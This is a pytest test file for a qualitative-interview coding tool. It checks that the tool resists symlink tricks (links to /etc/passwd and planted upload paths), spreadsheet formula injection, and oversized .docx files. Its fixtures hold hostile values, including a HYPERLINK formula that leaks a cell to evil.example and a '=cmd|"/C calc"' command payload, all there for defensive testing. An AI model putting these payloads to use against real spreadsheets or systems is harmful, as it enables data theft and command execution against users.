"""Files from a hostile neighbour: symlinks in interviews/, planted symlinks at upload time,
formula injection in every CSV and every table the app shows, oversized .docx transcripts."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from qualcode.project import Project
from qualcode.store import LOCAL_ADMIN

QUALCODE = [sys.executable, "-c", "import sys; from qualcode.cli import main; sys.exit(main())"]
SECRET = "TOP SECRET: the admin's notes, never to be shown as a transcript.\n"
INTERVIEW = "---\nparticipant: A\nlabel: Expert (A)\n---\nKazakhstan is a transit country for many people.\n"


def qualcode(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*QUALCODE, *args], capture_output=True, text=True, timeout=300)


@pytest.fixture
def linked_project(tmp_path: Path) -> Path:
    """A project whose interviews/ holds one real transcript, symlinks to files outside the
    project (/etc/passwd and a secret), a symlinked folder outside, and one harmless symlink
    to a file inside the project."""
    root = tmp_path / "proj"
    assert qualcode("init", str(root)).returncode == 0
    interviews = root / "interviews"
    (interviews / "expert_A.md").write_text(INTERVIEW, encoding="utf-8")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.md").write_text(SECRET, encoding="utf-8")
    (outside / "more.md").write_text(SECRET, encoding="utf-8")
    os.symlink("/etc/passwd", interviews / "passwd.md")
    os.symlink(outside / "secret.md", interviews / "notes.md")
    os.symlink(outside, interviews / "linked_folder")
    (root / "drafts").mkdir()
    (root / "drafts" / "expert_B.md").write_text(INTERVIEW.replace("A", "B"), encoding="utf-8")
    os.symlink("../drafts/expert_B.md", interviews / "expert_B.md")  # inside the project: fine
    return root


# ------------------------------------------------------------------------------ e. symlinks
def test_import_never_reads_symlinks_pointing_outside_and_says_so(linked_project: Path, db_url: str) -> None:
    res = qualcode("--project", str(linked_project), "--database-url", db_url, "import")
    assert res.returncode == 0, res.stderr
    for entry in ("interviews/passwd.md -> /etc/passwd", "interviews/notes.md -> ", "interviews/linked_folder"):
        assert entry in res.stderr, res.stderr
    assert "Warning:" in res.stderr and "outside the project" in res.stderr
    project = Project.open(linked_project, database_url=db_url)
    try:
        names = set(project.store.documents_frame()["document"])
        assert names == {"expert_A", "expert_B"}
        texts = "".join(project.store.document_text(n) for n in names)
        assert "TOP SECRET" not in texts and "root:" not in texts
    finally:
        project.close()


def test_explicit_symlinked_path_in_the_project_is_skipped_too(linked_project: Path) -> None:
    res = qualcode("--project", str(linked_project), "import", str(linked_project / "interviews"))
    assert res.returncode == 0, res.stderr
    assert "interviews/passwd.md -> /etc/passwd" in res.stderr
    project = Project.open(linked_project)
    try:
        assert "passwd" not in set(project.store.documents_frame()["document"])
    finally:
        project.close()


def test_app_says_which_entries_were_skipped(linked_project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("QUALCODE_PROJECT", str(linked_project))
    monkeypatch.delenv("QUALCODE_DATABASE_URL", raising=False)
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "streamlit_app.py"), default_timeout=60)
    at.session_state["qc_start_page"] = "interviews"
    at.session_state["qc_local_name"] = "alice"
    at.session_state["qc_local_role"] = "annotator"
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    warnings = "\n".join(w.value for w in at.warning).replace("\\", "")
    assert "point outside the project" in warnings
    assert "interviews/passwd.md -> /etc/passwd" in warnings
    shown = "\n".join(str(df.value.to_dict()) for df in at.dataframe)
    assert "passwd" not in shown and "notes" not in shown


def test_upload_does_not_write_through_a_planted_symlink(tmp_path: Path) -> None:
    from qualcode.app.pages.interviews import save_and_import

    project = Project.init(tmp_path / "proj")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    interviews = project.interviews_dir
    # Every temporary name the old code (and a naive fix) would use, pointing at the victim.
    for name in (".expert_C.md.upload.tmp", "expert_C.md.tmp", ".expert_C.md.tmp"):
        os.symlink(victim, interviews / name)
    docs = save_and_import(project, [("expert_C.md", INTERVIEW.encode())], overwrite=False)
    assert [d["document"] for d in docs] == ["expert_C"]
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert (interviews / "expert_C.md").read_text(encoding="utf-8") == INTERVIEW
    assert not (interviews / "expert_C.md").is_symlink()
    assert not [p for p in interviews.iterdir() if p.name.startswith(".upload-")]  # no temporary file left
    project.close()


def test_upload_refuses_a_symlink_planted_under_the_upload_name(tmp_path: Path) -> None:
    from qualcode.app.pages.interviews import save_and_import
    from qualcode.errors import InputFileError

    project = Project.init(tmp_path / "proj")
    victim = tmp_path / "victim.md"
    victim.write_text("precious\n", encoding="utf-8")
    os.symlink(victim, project.interviews_dir / "expert_C.md")
    with pytest.raises(InputFileError, match="outside the interviews folder"):
        save_and_import(project, [("expert_C.md", INTERVIEW.encode())], overwrite=True)
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert project.store.documents_frame().empty
    project.close()


def test_upload_refuses_a_symlinked_interviews_folder(tmp_path: Path) -> None:
    from qualcode.app.pages.interviews import save_and_import
    from qualcode.errors import InputFileError

    project = Project.init(tmp_path / "proj")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    project.interviews_dir.rmdir()
    os.symlink(elsewhere, project.interviews_dir)
    with pytest.raises(InputFileError, match="interviews/ points outside the project"):
        save_and_import(project, [("expert_C.md", INTERVIEW.encode())], overwrite=False)
    assert list(elsewhere.iterdir()) == []
    assert project.store.codings_frame(LOCAL_ADMIN).empty
    project.close()


# ------------------------------------------------------------------------------ f. formula injection
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_CODEBOOK = f"""\
title: Hostile labels
themes:
  - id: evil_theme
    label: '{EVIL.replace("'", "''")}'
    codes:
      - id: evil_code
        label: '@SUM(1+1)'
      - id: plain
        label: Plain code
"""
HOSTILE_INTERVIEW = f"""\
---
participant: A
label: '-Expert (A)'
+region: '=cmd|"/C calc"!A0'
---
{EVIL} is what the participant typed. Then a plain sentence follows here.
"""
HOSTILE_INTERVIEW_B = """\
---
participant: B
label: Expert (B)
+region: north
---
+Another sentence. And a plain one.
"""
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _formula(value: object) -> bool:
    """Text a spreadsheet would run (a negative number in a CSV is just a number)."""
    if not isinstance(value, str) or not value.startswith(RISKY):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def _hostile_project(root: Path) -> Project:
    project = Project.init(root)
    (root / "codebook.yaml").write_text(HOSTILE_CODEBOOK, encoding="utf-8")
    (root / "interviews" / "expert_A.md").write_text(HOSTILE_INTERVIEW, encoding="utf-8")
    (root / "interviews" / "expert_B.md").write_text(HOSTILE_INTERVIEW_B, encoding="utf-8")
    project.sync()
    from qualcode.store import Actor

    text_a = project.store.document_text("expert_A")
    text_b = project.store.document_text("expert_B")
    end = text_a.index(" is what")
    for who in ("alice", "@mallory"):
        user = project.as_user(Actor(who, "annotator", local=True))
        user.add_coding("expert_A", 0, end, "evil_code", memo="-2+3 says the memo")
        user.add_coding("expert_B", 0, text_b.index(" And"), "plain", memo="=1+1")
    project.as_user(Actor("alice", "annotator", local=True)).add_coding("expert_A", 0, end, "plain")
    return project


def _unsafe_strings(frame) -> list[str]:  # type: ignore[no-untyped-def]
    """Every header, row label and text cell of ``frame`` a spreadsheet would run as a formula."""
    import pandas as pd

    values: list[object] = list(frame.columns) + list(frame.index)
    if isinstance(frame.columns, pd.MultiIndex):
        values = [v for tup in frame.columns for v in tup] + list(frame.index)
    for col in range(frame.shape[1]):
        values += frame.iloc[:, col].tolist()
    return [v for v in values if _formula(v)]


def test_cli_csv_headers_and_cells_are_neutralised(tmp_path: Path) -> None:
    import csv
    import io

    root = tmp_path / "proj"
    _hostile_project(root).close()
    checked = 0
    for args in (
        ["report", "matrix", "--by", "theme"],
        ["report", "matrix", "--by", "code"],
        ["report", "experts", "--attribute", "+region"],
        ["report", "themes"],
        ["report", "quotes"],
        ["report", "agreement"],
    ):
        res = qualcode("--project", str(root), *args, "--format", "csv")
        assert res.returncode == 0, (args, res.stderr)
        rows = list(csv.reader(io.StringIO(res.stdout)))
        assert rows, args
        bad = [cell for row in rows for cell in row if _formula(cell)]
        assert not bad, (args, bad)
        checked += sum(cell.startswith("'") for row in rows for cell in row)
    assert checked >= 4  # the hostile labels, attribute and quotes were there, neutralised


def test_every_table_and_csv_download_in_the_app_is_neutralised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Supervisor on every page: each st.dataframe/st.data_editor (whose built-in "Download as CSV"
    exports exactly what it shows) and each CSV download button holds no formula."""
    import streamlit.testing.v1.app_test as app_test_module
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import AppTest

    downloads: list[bytes] = []

    class Recording(MemoryMediaFileStorage):
        def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):  # type: ignore[no-untyped-def]
            if mimetype == "text/csv" and isinstance(path_or_data, (bytes, str)):
                downloads.append(path_or_data.encode() if isinstance(path_or_data, str) else path_or_data)
            return super().load_and_get_id(path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Recording)
    from streamlit.runtime.media_file_manager import MediaFileManager

    real_deferred = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, *args, **kwargs):  # type: ignore[no-untyped-def]
        """CSV buttons write their bytes on click: write them here, as a click would."""
        if mimetype == "text/csv":
            data = data_callable()
            downloads.append(data.encode() if isinstance(data, str) else data)
        return real_deferred(self, data_callable, mimetype, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    root = tmp_path / "proj"
    _hostile_project(root).close()
    monkeypatch.setenv("QUALCODE_PROJECT", str(root))
    monkeypatch.delenv("QUALCODE_DATABASE_URL", raising=False)
    script = str(Path(__file__).resolve().parents[1] / "streamlit_app.py")
    neutralised = 0
    tables = 0
    for page in ("code", "codebook", "browser", "reports", "agreement", "adjudicate", "interviews", "admin"):
        at = AppTest.from_file(script, default_timeout=120)
        at.session_state["qc_start_page"] = page
        at.session_state["qc_local_name"] = "alice"
        at.session_state["qc_local_role"] = "admin"
        at.run()
        assert not at.exception, (page, [e.value for e in at.exception])
        if page == "agreement":
            coders = at.multiselect(key="qc_agr_coders")
            coders.set_value(["alice", "@mallory"]).run()
        if page == "adjudicate":
            at.multiselect(key="qc_adj_coders").set_value(["alice", "@mallory"]).run()
        elements = list(at.dataframe)
        if page == "reports":  # only the open tab runs: open each in turn
            from qualcode.app.pages.reports import TAB_KEY, TABS

            for tab in TABS[1:]:
                at.session_state[TAB_KEY] = tab
                at.run()
                assert not at.exception, (page, tab, [e.value for e in at.exception])
                elements += list(at.dataframe)
        for element in elements:
            tables += 1
            frame = element.value
            assert not _unsafe_strings(frame), (page, _unsafe_strings(frame))
            neutralised += sum(
                isinstance(v, str) and v.startswith("'")
                for col in range(frame.shape[1])
                for v in [*frame.iloc[:, col].tolist(), frame.columns[col]]
            )
    assert tables >= 8 and neutralised >= 5
    import csv
    import io

    assert len(downloads) >= 5  # themes, codes, consensus, heatmap matrix, quotes, agreement
    for blob in downloads:
        rows = list(csv.reader(io.StringIO(blob.decode("utf-8"))))
        bad = [cell for row in rows for cell in row if _formula(cell)]
        assert not bad, bad


def test_no_page_shows_a_table_around_the_neutralising_helper() -> None:
    import re

    app_dir = Path(__file__).resolve().parents[1] / "qualcode" / "app"
    offenders = []
    for path in app_dir.rglob("*.py"):
        if path.name == "tables.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if re.search(r"\bst\.(dataframe|data_editor|table)\(", line):
                offenders.append(f"{path.relative_to(app_dir)}:{n}")
    assert not offenders, f"use qualcode.app.components.tables instead: {offenders}"


# ------------------------------------------------------------------------------ g. .docx bounds
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SAMPLE_DOCX = Path(__file__).resolve().parent / "data" / "importers" / "gdocs_D.docx"


def _docx_with_body(path: Path, body: bytes) -> Path:
    """A real Word package (the sample's parts) whose document part has ``body``; stored
    uncompressed so the zip-bomb ratio check does not decide."""
    import zipfile

    with zipfile.ZipFile(SAMPLE_DOCX) as sample:
        parts = {name: sample.read(name) for name in sample.namelist()}
    parts["word/document.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'.encode()
        + body
        + b"</w:body></w:document>"
    )
    parts.pop("word/comments.xml", None)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _import(root: Path, path: Path) -> subprocess.CompletedProcess:
    return qualcode("--project", str(root), "import", str(path))


def test_docx_with_too_much_text_is_refused_before_parsing(tmp_path: Path) -> None:
    """A 34 MB document part of ordinary text (few elements): the old code turned it into
    a 34-million-character transcript."""
    root = tmp_path / "proj"
    assert qualcode("init", str(root)).returncode == 0
    words = ("The border queue grew again and again. " * 25).encode()  # ~1,000 characters
    paragraph = b"<w:p><w:r><w:t>" + words + b"</w:t></w:r></w:p>"
    path = _docx_with_body(root / "interviews" / "huge_A.docx", paragraph * (34 * 1024))
    res = _import(root, path)
    assert res.returncode == 2, res.stdout + res.stderr
    assert "huge_A.docx" in res.stderr and "word/document.xml" in res.stderr
    assert "33.6 MB limit" in res.stderr and "Traceback" not in res.stderr
    project = Project.open(root)
    assert project.store.documents_frame().empty
    project.close()


def test_docx_with_millions_of_tiny_elements_is_refused_before_parsing(tmp_path: Path) -> None:
    """14 MB of ``<w:r><w:t>ab</w:t></w:r>``: 1.2 million elements (a parsed tree of ~150 MB)."""
    root = tmp_path / "proj"
    assert qualcode("init", str(root)).returncode == 0
    runs = b"<w:r><w:t>ab</w:t></w:r>" * 1000
    path = _docx_with_body(root / "interviews" / "tiny_B.docx", (b"<w:p>" + runs + b"</w:p>") * 600)
    res = _import(root, path)
    assert res.returncode == 2, res.stdout + res.stderr
    assert "tiny_B.docx" in res.stderr and "XML elements" in res.stderr and "1,000,000" in res.stderr
    project = Project.open(root)
    assert project.store.documents_frame().empty
    project.close()


def test_docx_text_limits_match_the_text_files() -> None:
    from qualcode.errors import InputFileError
    from qualcode.importers.encoding import check_text_bounds

    with pytest.raises(InputFileError, match="million limit") as info:
        check_text_bounds("x" * 101, "big.docx", max_chars=100)
    assert info.value.problems[0].path == "big.docx"
    with pytest.raises(InputFileError, match="line 2 is 11 characters long"):
        check_text_bounds("ok\n" + "y" * 11, "long.docx", max_line_chars=10)
    check_text_bounds("fine\ntext", "ok.docx", max_chars=100, max_line_chars=10)


def test_ordinary_docx_still_imports(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    assert qualcode("init", str(root)).returncode == 0
    paragraph = b"<w:p><w:r><w:t>Expert C: the queue at the border grew.</w:t></w:r></w:p>"
    path = _docx_with_body(root / "interviews" / "expert_C.docx", paragraph * 2000)
    res = _import(root, path)
    assert res.returncode == 0, res.stderr
    project = Project.open(root)
    assert list(project.store.documents_frame()["document"]) == ["expert_C"]
    project.close()
